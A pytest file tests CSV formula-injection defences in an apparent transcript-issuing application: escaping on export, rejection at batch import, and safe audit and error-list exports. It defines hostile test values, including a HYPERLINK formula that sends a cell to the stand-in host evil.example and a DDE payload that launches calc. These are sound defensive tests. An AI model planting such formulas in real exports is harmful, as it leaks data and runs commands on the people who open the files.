"""One guarded CSV writer for every export (issue 10): a value a spreadsheet would run as
a formula is escaped in each CSV the issuer writes, and names that start as formulas are
refused at import with their row and column."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from issuer.adapters import csvfile
from issuer.adapters.batchfile import load_batch
from issuer.core.lifecycle import AccountRole
from issuer.core.records import FORMULA_STARTS, Institution, InstitutionKind
from issuer.services import accounts
from issuer.services.audit import export_audit, verify_export
from issuer.services.context import Actor, Issuer
from tests.e2e.conftest import edit_csv
from tests.web.conftest import PASSWORD, as_user, web_app

ROOT = Path(__file__).resolve().parents[2]
SCHOOL = Institution("1001", InstitutionKind.SCHOOL, "โรงเรียน", "School")
EVIL = '=HYPERLINK("http://evil.example/?x="&E2,"ok")'
HOSTILE = [EVIL, "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_guard_escapes_and_gives_back(value: str) -> None:
    guarded = csvfile.guard(value)
    assert guarded.startswith("'") and csvfile.unguard(guarded) == value
    assert csvfile.guard("กัญญ์ณัฏฐ์") == "กัญญ์ณัฏฐ์"
    out = io.StringIO()
    csvfile.write(out, ["name"], [[value]])
    assert out.getvalue().splitlines()[1].lstrip('"').startswith("'")


def test_every_csv_the_issuer_writes_goes_through_the_one_writer() -> None:
    writers = [str(p.relative_to(ROOT)) for p in (ROOT / "issuer").rglob("*.py")
               if "csv.writer(" in p.read_text(encoding="utf-8")
               or "csv.DictWriter(" in p.read_text(encoding="utf-8")]
    assert writers == ["issuer/adapters/csvfile.py"]


@pytest.mark.parametrize(("column", "value"), [
    ("first_name_en", EVIL), ("last_name_th", "+ศรี"), ("father_name_th", "-นาย"),
    ("prefix_en", "@Miss"), ("programme_name_en", "=1+1"), ("name_en", "=cmd|' /C calc'!A0"),
])
def test_names_starting_as_formulas_are_refused_with_row_and_column(column: str,
                                                                     value: str) -> None:
    first = {"done": False}

    def spoil(row: dict[str, str]) -> None:
        if not first["done"]:
            row[column] = value
            first["done"] = True

    result = load_batch(edit_csv("school-batch.csv", spoil), SCHOOL)
    assert result.records == ()
    (error,) = [e for e in result.errors if "formula" in e.reason_en]
    assert (error.row, error.column, error.value) == (2, column, value)


def test_the_audit_exports_escape_and_still_verify(web_issuer: Issuer) -> None:
    setup = Actor("setup", "test", AccountRole.ADMIN, None)
    accounts.create_account(web_issuer, username=EVIL, password=PASSWORD,
                            role="registrar", institution_code="1001", actor=setup)
    app = web_app(web_issuer)
    as_user(app, EVIL)  # the audit log records the sign-in with that name as actor
    admin = as_user(app, "admin")
    exports = {"web": admin.client.get("/admin/audit/export.csv").get_data(as_text=True)}
    out = io.StringIO()
    export_audit(web_issuer, out, "csv")  # what `transcripts audit export` writes
    exports["cli"] = out.getvalue()
    for text in exports.values():
        rows = list(csv.reader(io.StringIO(text)))
        assert "'" + EVIL in {r[2] for r in rows}
        assert not any(c.startswith(FORMULA_STARTS) for r in rows for c in r)
        assert verify_export(text.splitlines(keepends=True), "csv") is None
    listed = admin.client.get("/admin/audit.csv").get_data(as_text=True)
    assert "'" + EVIL in {r[2] for r in csv.reader(io.StringIO(listed))}


def test_a_rejected_uploads_error_list_escapes_the_values(web_issuer: Issuer) -> None:
    def spoil(row: dict[str, str]) -> None:
        row["grade"] = EVIL

    registrar = as_user(web_app(web_issuer), "reg1001")
    registrar.get("/batches/upload")
    response = registrar.post(
        "/batches/upload",
        {"file": (io.BytesIO(edit_csv("school-batch.csv", spoil)), "x.csv")},
        content_type="multipart/form-data")
    errors = registrar.get(response.headers["Location"] + "/errors.csv")
    rows = list(csv.reader(io.StringIO(errors.get_data(as_text=True).lstrip("\ufeff"))))
    assert "'" + EVIL in {r[2] for r in rows}
    assert not any(c.startswith(FORMULA_STARTS) for r in rows for c in r)
